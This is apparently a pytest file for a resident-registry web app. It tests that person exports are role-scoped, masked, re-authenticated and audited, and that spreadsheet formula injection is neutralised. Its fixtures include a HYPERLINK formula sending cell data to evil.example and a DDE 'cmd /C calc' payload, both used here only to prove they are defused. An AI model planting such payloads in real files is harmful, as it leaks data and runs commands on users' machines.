from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook
from rest_framework.test import APIClient

from jingwang.audit.models import AuditEvent
from jingwang.core.spreadsheets import csv_stream, xlsx_bytes
from jingwang.registry.services import persons
from jingwang.testing import PASSWORD, World, sign_in


def _api(world: World, name: str, reauth: bool = True) -> APIClient:
    client = APIClient()
    client.force_authenticate(world.users[name])
    if reauth:
        client.credentials(HTTP_X_REAUTH_PASSWORD=PASSWORD)
    return client


def test_export_is_scoped_masked_and_audited(world: World, registry: dict[str, Any]) -> None:
    response = _api(world, "officer_a").get("/api/v1/persons/export/", {"as": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    full = persons.person_reveal(
        by=world.officer_a, person_id=registry["person_a"].pk, field="id_number", purpose="test"
    )
    assert "甲居民" in body and "乙居民" not in body
    assert registry["person_a"].id_number_masked in body and full not in body
    event = AuditEvent.objects.filter(action="registry.person.export").latest("id")
    assert event.result_count == 1 and event.details == {"format": "csv"}


def test_export_asks_for_the_password_again(world: World, registry: dict[str, Any]) -> None:
    response = _api(world, "officer_a", reauth=False).get("/api/v1/persons/export/", {"as": "csv"})
    assert response.status_code == 403 and response.json()["error"]["code"] == "reauth_required"
    assert not AuditEvent.objects.filter(action="registry.person.export").exists()


def test_grid_worker_cannot_export(world: World, registry: dict[str, Any]) -> None:
    assert _api(world, "grid_a1").get("/api/v1/persons/export/", {"as": "csv"}).status_code == 403


def test_xlsx_export_from_the_page(world: World, registry: dict[str, Any], client: Any) -> None:
    sign_in(client, world.officer_a, stepped_up=True)
    response = client.get("/registry/persons/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2 and rows[1][0] == "甲居民"


FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'


def test_formula_in_a_person_field_is_quoted_in_csv_and_text_in_xlsx(world: World, registry: dict[str, Any]) -> None:
    """SECURITY 29: a cell a spreadsheet would run is neutralised in both formats."""
    persons.person_update(
        by=world.officer_a,
        person_id=registry["person_a"].pk,
        expected_version=None,
        data={"hukou_address": "@SUM(1+1)*cmd|' /C calc'!A0", "former_names": "-2+3"},
    )
    client = _api(world, "officer_a")
    csv_body = b"".join(client.get("/api/v1/persons/export/", {"as": "csv"}).streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    assert "'@SUM(1+1)" in csv_body
    assert ",@SUM" not in csv_body and '"@SUM' not in csv_body
    xlsx = client.get("/api/v1/persons/export/", {"as": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active  # type: ignore[attr-defined]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("@SUM")]
    assert cells and all(c.data_type == "s" for c in cells)


def test_spreadsheet_cells_starting_with_formula_characters_are_neutralised() -> None:
    row = [FORMULA, "+86 138", "-1+1", "@A1", "\t=1", "\r=1", "普通文字", -3, 2.5, "a=b"]
    body = b"".join(csv_stream(["h"] * len(row), [row])).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(body, newline="")))[1]
    assert cells[:6] == ["'" + str(v) for v in row[:6]]
    assert cells[6:] == ["普通文字", "-3", "2.5", "a=b"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["h"] * len(row), [row]))).active
    values = next(sheet.iter_rows(min_row=2, values_only=True))  # type: ignore[union-attr]
    formula_cells = next(sheet.iter_rows(min_row=2))  # type: ignore[union-attr]
    assert values[0] == FORMULA and formula_cells[0].data_type == "s"  # text, shown as typed
    assert all(c.data_type != "f" for c in formula_cells)
    assert values[7] == -3 and formula_cells[7].data_type == "n"  # a genuine negative number stays a number
